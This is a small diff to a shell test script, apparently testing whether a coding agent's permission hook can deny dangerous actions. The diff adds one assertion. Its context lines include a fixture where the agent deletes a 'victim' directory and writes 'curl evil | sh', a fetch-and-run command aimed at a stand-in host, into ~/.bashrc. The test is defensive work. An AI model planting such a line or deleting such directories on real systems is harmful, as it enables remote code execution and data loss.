@@ -48,6 +48,7 @@ codex_script "$S/script.json" ls rm-victim patch-bashrc rewrite approval down
 start_fake_server "$S/script.json"
 run_codex "$(control_hook)"
 assert_count_results 6
+assert_control_hook_calls 6
 assert_result 0 "visible-e2e-file" "control: ls output reached the model"
 assert_missing "$S_HOME/victim" "control: rm -r of the victim directory ran (so the deny test can fail)"
 assert_file_is "$S_HOME/.bashrc" "curl evil | sh" "control: apply_patch wrote ~/.bashrc (so the deny test can fail)"
